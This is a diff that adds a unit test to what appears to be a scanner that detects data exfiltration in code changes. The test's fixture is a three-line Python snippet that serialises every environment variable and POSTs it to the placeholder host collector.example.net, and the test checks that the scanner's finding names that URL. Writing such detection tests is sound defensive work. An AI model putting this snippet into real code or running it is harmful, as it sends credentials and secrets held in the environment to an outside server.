@@ -180,3 +180,11 @@ def test_endpoint_cases_are_detected(shared_dir: Path) -> None:
                    for f in result.findings):
             missed.append(case.name)
     assert missed == []
+
+
+def test_exfiltration_message_names_the_url_without_the_quotes_around_it() -> None:
+    code = ("import os, json, urllib.request\n"
+            "data = dict(os.environ)\n"
+            "urllib.request.urlopen(\"https://collector.example.net/c\", data=json.dumps(data).encode())\n")
+    (f,) = [f for f in findings(new_file_diff("sync.py", code)) if f.rule_id == "endpoint-exfiltration"]
+    assert "`https://collector.example.net/c`" in f.message
